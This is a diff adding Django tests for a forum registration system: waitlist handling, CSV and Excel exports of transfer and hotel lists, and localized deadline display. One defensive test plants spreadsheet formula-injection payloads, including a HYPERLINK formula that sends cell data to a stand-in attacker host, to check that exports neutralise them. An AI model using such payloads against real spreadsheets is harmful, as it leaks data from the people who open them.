@@ -1,3 +1,4 @@
+import csv
 import datetime
 import io
 import re
@@ -343,6 +344,21 @@ def test_admin_bulk_action_sends_the_right_email(admin_client, django_capture_on
     assert len(mail.outbox) == 1 and mail.outbox[0].to == [registration.user.email]
 
 
+def test_moving_the_first_in_the_queue_to_the_waiting_list_sticks(admin_client, django_capture_on_commit_callbacks):
+    edition = OpenEditionFactory(capacity=2)
+    moved = RegistrationFactory(edition=edition)  # registered first: first in the queue once waitlisted
+    RegistrationFactory(edition=edition)
+    waiting = RegistrationFactory(edition=edition, status=Registration.Status.WAITLISTED)
+    with django_capture_on_commit_callbacks(execute=True):
+        admin_client.post("/admin/forum/registration/", {"action": "waitlist", "_selected_action": [moved.pk]})
+    moved.refresh_from_db()
+    waiting.refresh_from_db()
+    assert moved.status == Registration.Status.WAITLISTED
+    assert waiting.status == Registration.Status.CONFIRMED  # the freed place goes to the next in line
+    assert sorted(m.to[0] for m in mail.outbox) == sorted([moved.user.email, waiting.user.email])
+    assert [m.to for m in mail.outbox].count([moved.user.email]) == 1
+
+
 def export(admin_client, registrations, **data):
     return admin_client.post(
         "/admin/forum/registration/",
@@ -366,6 +382,28 @@ def test_transfer_list_carries_only_what_the_driver_needs(admin_client):
     assert response["Content-Type"].startswith("text/csv")
     assert "Летов" in body and "TK 346" in body and "2030-06-30" in body
     assert "Пешков" not in body and "halal" not in body and flying.user.email not in body
+
+
+@pytest.mark.parametrize("preset", ["transfer", "hotel"])
+def test_transfer_and_hotel_lists_hold_only_people_who_are_coming(admin_client, preset):
+    edition = OpenEditionFactory(year=2031)
+    needs = {
+        "needs_transfer": True,
+        "flight": "TK 346",
+        "needs_accommodation": True,
+        "check_in": datetime.date(2031, 6, 30),
+        "check_out": datetime.date(2031, 7, 3),
+    }
+    coming = RegistrationFactory(edition=edition, last_name="Келет", **needs)
+    others = [
+        RegistrationFactory(edition=edition, last_name=name, status=status, **needs)
+        for name, status in (("Күтөт", Registration.Status.WAITLISTED), ("Келбейт", Registration.Status.CANCELLED))
+    ]
+    response = export(admin_client, [coming, *others], preset=preset, file_format="csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[0][:2] == ["форум", "статусу"]
+    assert [row[2:4] for row in rows[1:]] == [["Айгүл", "Келет"]]
+    assert rows[1][:2] == ["2031", "ырасталды"]
 
 
 def test_hotel_list_as_xlsx(admin_client):
@@ -393,3 +431,47 @@ def test_export_with_chosen_columns(admin_client):
         "/admin/forum/registration/", {"action": "export", "_selected_action": [registration.pk]}
     ).content.decode()
     assert 'name="columns"' in page and 'name="preset"' in page
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_exports_neutralise_formulas_typed_into_the_form(admin_client, file_format):
+    """Staff open these lists in a spreadsheet: a registrant's text must not run as a formula there."""
+    hostile = RegistrationFactory(
+        first_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        dietary_needs="=1+1",
+        needs_transfer=True,
+        flight="@SUM(A1)",
+        phone="+996312663538",
+    )
+    for preset in ("all", "transfer"):
+        response = export(admin_client, [hostile], preset=preset, file_format=file_format)
+        if file_format == "csv":
+            cells = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
+        else:
+            sheet = load_workbook(io.BytesIO(response.content)).active
+            row = next(sheet.iter_rows(min_row=2))
+            assert "f" not in {cell.data_type for cell in row}
+            cells = [str(cell.value) for cell in row if cell.value is not None]
+        assert not [cell for cell in cells if cell.startswith(("=", "@"))]
+        assert "+996312663538" in cells
+
+
+@pytest.mark.parametrize(
+    "lang, shown, not_shown",
+    [
+        ("ky", ["2031-жылдын 30-июну", "23:59"], ["1-июлу"]),
+        ("ru", ["по 30 июня 2031 г. включительно, до 23:59"], ["1 июля"]),
+        ("en", ["through 30 June 2031, until 23:59 Bishkek time"], ["1 July"]),
+    ],
+)
+def test_the_shown_deadline_is_the_real_one(client, user, lang, shown, not_shown):
+    # Registration closes at 00:00 on 1 July in Bishkek: the last day it is open is 30 June.
+    closes = timezone.make_aware(datetime.datetime(2031, 7, 1))
+    edition = OpenEditionFactory(year=2031, registration_closes=closes)
+    assert edition.registration_is_open(now=closes - datetime.timedelta(seconds=1))
+    assert not edition.registration_is_open(now=closes)
+    html = client.get(f"/{lang}/forum/2031/register/").content.decode()
+    for text in shown:
+        assert text in html
+    for text in not_shown:
+        assert text not in html
